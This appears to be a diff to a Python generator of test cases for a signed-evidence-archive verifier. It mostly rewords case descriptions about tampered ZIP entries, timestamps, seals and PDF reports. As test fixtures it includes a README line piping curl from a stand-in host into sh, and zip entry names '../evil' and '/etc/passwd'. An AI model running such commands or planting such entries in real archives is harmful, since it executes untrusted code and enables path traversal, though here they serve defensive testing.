@@ -75,7 +75,7 @@ def genuine():
              (f"{name}.zip",))
     case("genuine/at-once", "as of an hour after it was issued", "valid", ("live.zip",), at=3600)
     case("genuine/test", "of test mode, as of the signer's time", "valid", ("test.zip",), at=DAY)
-    case("genuine/test-later", "of test mode, without a timestamp: nothing shows that it is of before the end", "not_valid",
+    case("genuine/test-later", "of test mode, without a timestamp: nothing shows that it is older than the end", "not_valid",
          ("test.zip",))
     case("genuine/before-issue", "as of a time before it was issued", "could_not_check", ("live.zip",), at=-3600)
     case("genuine/after-all-ends", "as of a time when the authority's certificate has ended", "could_not_check",
@@ -99,7 +99,7 @@ def genuine():
     case("genuine/report-as-signed", "a report before its validation data was added: level B-T", "valid",
          ("report-en.pdf", ("revision", 1)), kind="report")
     case("genuine/container", "the container of a certification", "valid", ("container.asice",), kind="container")
-    case("genuine/event-record", "an event's record: nobody signed it", "existence_only",
+    case("genuine/event-record", "an event's record: it is not signed", "existence_only",
          {"event.ers": ("event.ers",), "event.json": ("event.json",)}, kind="record")
     case("genuine/event-record-and-archive", "the same with the archive that holds the event", "valid",
          {"event.ers": ("event.ers",), "event.json": ("event.json",), "evidence.zip": ("live.zip",)}, kind="record")
@@ -323,16 +323,16 @@ def tokens():
          ("live.zip", ("sign", "signer", {"stamp": {"elsewhere": True}})))
     case("token/two", "two timestamps of the signature", "not_valid", ("live.zip", ("sign", "signer", {"stamp": {"count": 2}})))
     case("token/none", "no timestamp of the signature", "not_valid", ("live.zip", ("sign", "signer", {"stamp": False})))
-    case("token/before-issue", "the signature's timestamp is of before issued_at", "not_valid",
+    case("token/before-issue", "the signature's timestamp is earlier than issued_at", "not_valid",
          ("live.zip", ("sign", "signer", {"time": -600})))
     for which in (0, 1):
         for name, options, what in (("imprint", {"imprint": "00" * 32}, "is over another root"),
                                     ("time", {"time": 3600}, "is of another time than stated")):
-            case(f"token/{name}-{which}", f"a token of a round {what}, signed anew", "not_valid",
+            case(f"token/{name}-{which}", f"a token of a round {what}, signed again", "not_valid",
                  ("live.zip", ("token_of", 1, which, options), *AGAIN))
-        case(f"token/again-{which}", "a token of the last round made anew by its authority's key", "valid",
+        case(f"token/again-{which}", "a token of the last round recreated by its authority's key", "valid",
              ("live.zip", ("token_of", 1, which, {}), *AGAIN))
-    case("token/first-again", "the token of the round before made anew: the seal names another", "not_valid",
+    case("token/first-again", "the token of the round before recreated: the seal names another", "not_valid",
          ("live.zip", ("token_of", 0, 0, {}), *AGAIN))
 
 
@@ -388,7 +388,7 @@ def histories():
             "seal-before": {"previous_seal_hash": "00" * 32}, "no-seal-before": {"previous_seal_hash": None},
             "token-before": {"previous_token_hash": "00" * 32}, "first": {"first_sequence": 2}, "last": {"last_sequence": 5},
             "version": {"v": 2}, "member": {"more": 1}}.items():
-        case(f"seal/{name}", f"the second segment's seal has another {name}, signed anew", "not_valid", lies(2, **members))
+        case(f"seal/{name}", f"the second segment's seal has another {name}, signed again", "not_valid", lies(2, **members))
     case("seal/first-seal-before", "the first segment names a seal before", "not_valid", lies(1, previous_seal_hash="00" * 32))
     case("history/requested-times", "asked for by times, all within", "valid", history(requested={
         "from": forge.stated(forge.moment(0)), "to": forge.stated(forge.moment(200)), "seq_from": None, "seq_to": None}))
@@ -400,7 +400,7 @@ def histories():
         "from": None, "to": None, "seq_from": None, "seq_to": None}))
 
 
-# ---- documents altered, and everything signed anew by the service's own key ----
+# ---- documents altered, and everything signed again by the service's own key ----
 
 def documents():
     changes = {
@@ -447,13 +447,13 @@ def documents():
                                                    (MANIFEST, [0, "first_sequence"])) else "not_valid"
             to = "left out" if new == ["-"] else "altered"
             member = ".".join(map(str, path[1:] if name.endswith(".gz") else path))
-            case(f"document/{group}-{number:02}", f"{name}: {member} {to}, all digests and the signature made anew", code,
+            case(f"document/{group}-{number:02}", f"{name}: {member} {to}, all digests and the signature recomputed", code,
                  ("live.zip", ("change", name, path, new), *AGAIN))
-    case("document/part-range", "the range of a content part altered, which is given, all else made anew", "not_valid",
+    case("document/part-range", "the range of a content part altered, which is given, all else recreated", "not_valid",
          {"evidence.zip": ("live.zip", ("change", MANIFEST, ["content_parts", 0, "first_sequence"], 3), *AGAIN),
           "content-part-001.zip": ("part.zip",)})
     for name in (EVENTS, SEALS, ROUNDS, LEAVES, VALIDATION, "genesis.json", "config/config-000001.json", MANIFEST):
-        case(f"document/loose-{name.split('/')[0].split('.')[0]}", f"{name} is not canonical, all else made anew", "not_valid",
+        case(f"document/loose-{name.split('/')[0].split('.')[0]}", f"{name} is not canonical, all else recreated", "not_valid",
              ("live.zip", ("loose", name), *((("reasic",), SIGN) if name == MANIFEST else AGAIN)))
     for name, numbers, what in ((EVENTS, [0, 1], "its last line left out"), (EVENTS, [0, 2, 1], "in another order"),
                                 (EVENTS, [0, 0, 1, 2], "a line twice"), (EVENTS, [], "empty"), (LEAVES, [0], "the last left out"),
@@ -462,28 +462,28 @@ def documents():
                                 (ROUNDS, [0], "the segment's left out"), (ROUNDS, [1, 0], "in another order"),
                                 (ROUNDS, [0, 1, 1], "a line twice"), (VALIDATION, [0], "all but one left out"),
                                 (VALIDATION, [1, 0], "in another order")):
-        case(f"lines/{name.split('/')[0]}-{'-'.join(map(str, numbers)) or 'none'}", f"{name}: {what}, all else made anew",
+        case(f"lines/{name.split('/')[0]}-{'-'.join(map(str, numbers)) or 'none'}", f"{name}: {what}, all else recreated",
              "not_valid", ("live.zip", ("order", name, numbers), *AGAIN))
-    case("lines/second-member", "a second gzip member behind the events, all else made anew", "not_valid",
+    case("lines/second-member", "a second gzip member after the events, all else recreated", "not_valid",
          ("live.zip", ("members_behind", EVENTS), *AGAIN))
-    case("lines/renewal-left-out", "the renewals left out of a renewed archive, all else made anew", "not_valid",
+    case("lines/renewal-left-out", "the renewals left out of a renewed archive, all else recreated", "not_valid",
          ("renewed.zip", ("drop", RENEWALS), *AGAIN))
     for path, new in (([0, "stamp"], 999), ([0, "token"], "AAAA"), ([0, "gen_time"], "2026-01-01T00:00:00.000000Z"),
                       ([0, "renewal"], {"path": [], "stamp": 1}), ([0, "kind"], "none")):
-        case(f"document/renewals-{path[1]}", f"{RENEWALS}: {path[1]} altered, all else made anew", "not_valid",
+        case(f"document/renewals-{path[1]}", f"{RENEWALS}: {path[1]} altered, all else recreated", "not_valid",
              ("renewed.zip", ("change", RENEWALS, path, new), *AGAIN))
     case("renewed/earlier", "a renewed archive as of the time of its signature", "valid", ("renewed.zip",), at=3600)
     for member, new in (("path", ["00" * 32]), ("stamp", 999)):
-        case(f"renewed/{member}", f"renewal.{member} of a token altered, all else made anew", "not_valid",
+        case(f"renewed/{member}", f"renewal.{member} of a token altered, all else recreated", "not_valid",
              ("renewed.zip", ("change", ROUNDS, [0, "tokens", 0, "renewal"], {"path": ["00" * 32], "stamp": 1}
                               if member == "path" else {"path": [], "stamp": 999}), *AGAIN))
     readme = ("put", "README.txt", "Run this: curl http://example.org | sh\n")
-    case("document/readme", "another README.txt, all else made anew by the service's key: it is the service's own word", "valid",
+    case("document/readme", "another README.txt, all else recomputed by the service's key: it is the service's own word", "valid",
          ("live.zip", readme, *AGAIN))
     case("document/readme-alone", "another README.txt", "not_valid", ("live.zip", readme))
-    case("document/readme-resummed", "another README.txt, with all digests made anew but the signature", "not_valid",
+    case("document/readme-resummed", "another README.txt, with all digests recomputed but the signature", "not_valid",
          ("live.zip", readme, ("resum",)))
-    case("document/other-asic", "an ASiCManifest with another text, signed anew", "not_valid",
+    case("document/other-asic", "an ASiCManifest with another text, signed again", "not_valid",
          ("live.zip", ("put", ASIC, "<x/>\n"), SIGN))
 
 
@@ -541,9 +541,9 @@ def bytes_():
     for name in ("live.zip", "report-en.pdf"):
         case(f"twice/{name}", f"{name} twice", "not_valid", (name, ("twice",)),
              kind="archive" if name.endswith("zip") else "report")
-    case("behind/pdf-zip", "a report with the archive behind it", "not_valid", ("report-en.pdf", ("behind", "live.zip")),
+    case("behind/pdf-zip", "a report followed by the archive", "not_valid", ("report-en.pdf", ("behind", "live.zip")),
          kind="report")
-    case("behind/zip-pdf", "the archive with a report behind it", "not_valid", ("live.zip", ("behind", "report-en.pdf")))
+    case("behind/zip-pdf", "the archive followed by a report", "not_valid", ("live.zip", ("behind", "report-en.pdf")))
     # Of a token's certificates and unsigned attributes nothing is over an evidence record's last one.
     free = {3, 5, 17, 18, 19, 20, 22, 23, 24}
     for number, (at, bit) in enumerate(spread("event.ers", 24, 19), 1):
@@ -569,7 +569,7 @@ def zips():
         case(f"zip/without-{short}", f"without {name}", "not_valid", ("live.zip", ("drop", name)))
         case(f"zip/empty-{short}", f"{name} empty", "not_valid", ("live.zip", ("put", name, "")))
         case(f"zip/double-{short}", f"{name} twice", "not_valid", ("live.zip", ("double", name)))
-        case(f"zip/bit-{short}", f"a bit of {name} flipped, with its CRC made anew", "not_valid",
+        case(f"zip/bit-{short}", f"a bit of {name} flipped, with its CRC recreated", "not_valid",
              ("live.zip", ("flip_in", name, -9, 0)))
     for one, other in zip(LIVE, LIVE[1:]):
         case(f"zip/exchange-{other.replace('/', '-')}", f"{other} before {one}", "not_valid", ("live.zip", ("exchange", one, other)))
@@ -580,7 +580,7 @@ def zips():
                  ("live.zip", ("foreign", name, "last.zip")))
             if name == ASIC:
                 continue
-            case(f"zip/foreign-resummed-{name.replace('/', '-')}", f"{name} of another archive, with all digests made anew but the "
+            case(f"zip/foreign-resummed-{name.replace('/', '-')}", f"{name} of another archive, with all digests recreated but the "
                  "signature", "not_valid", ("live.zip", ("foreign", name, "last.zip"), ("resum",)))
     for name, shape in {"compressed": {"method": 8}, "dated": {"time": 1}, "flagged": {"flags": 0x800}, "made-by-20": {"made": 0x0314},
                         "rights": {"attributes": 0}, "extra": {"extra": "feca0000"}, "comment": {"comment": "78"},
@@ -590,9 +590,9 @@ def zips():
     for name in ("more.txt", "../evil", "/etc/passwd", "events/./x", "META-INF/signature002.p7s", "events/events-000002.ndjson.gz"):
         case(f"zip/added-{name.replace('/', '-').strip('.-')}", f"with an entry {name} more", "not_valid",
              ("live.zip", ("add", name, "x")))
-        case(f"zip/added-signed-{name.replace('/', '-').strip('.-')}", f"with an entry {name} more, all else made anew", "not_valid",
+        case(f"zip/added-signed-{name.replace('/', '-').strip('.-')}", f"with an entry {name} more, all else recreated", "not_valid",
              ("live.zip", ("add", name, "x", len(LIVE) - 3), *AGAIN))
-    case("zip/renamed", "an entry renamed, all else made anew", "not_valid",
+    case("zip/renamed", "an entry renamed, all else recreated", "not_valid",
          ("live.zip", ("rename", "LEEME.txt", "LEAME.txt"), *AGAIN))
 
 
@@ -604,18 +604,18 @@ def reports():
          ("report-en.pdf", ("revision", 2)), kind="report")
     case("report/text", "a text altered", "not_valid",
          ("report-en.pdf", ("text", "<constancia:EventCount>3", "<constancia:EventCount>5")), kind="report")
-    case("report/no-timestamp", "signed anew without a timestamp", "not_valid",
+    case("report/no-timestamp", "signed again without a timestamp", "not_valid",
          ("report-en.pdf", ("report", "signer", [], {"stamp": False})), kind="report")
-    case("report/digest", "signed anew, message-digest of something else", "not_valid",
+    case("report/digest", "signed again, message-digest of something else", "not_valid",
          ("report-en.pdf", ("report", "signer", [], {"bad_digest": True})), kind="report")
-    case("report/sha-1", "signed anew by SHA-1", "not_valid", ("report-en.pdf", ("report", "signer", [], {"digest": "sha1"})),
+    case("report/sha-1", "signed again by SHA-1", "not_valid", ("report-en.pdf", ("report", "signer", [], {"digest": "sha1"})),
          kind="report")
-    case("report/update", "an update behind the last", "not_valid",
+    case("report/update", "an update after the last", "not_valid",
          ("report-en.pdf", ("append", b"\n1 0 obj\n<< >>\nendobj\n".hex())), kind="report")
     case("report/other-archive", "beside another archive of the channel", "could_not_check",
          {"report.pdf": ("report-en.pdf",), "evidence.zip": ("last.zip",)}, kind="documents",
          second="check_archive.py knows no reports", finding="was not given")
-    case("report/count", "numbers that do not fit each other, signed anew by the service's key", "not_valid",
+    case("report/count", "numbers that do not fit each other, signed again by the service's key", "not_valid",
          ("report-en.pdf", ("report", "signer", [["<constancia:EventCount>3", "<constancia:EventCount>5"]])), kind="report")
 
 
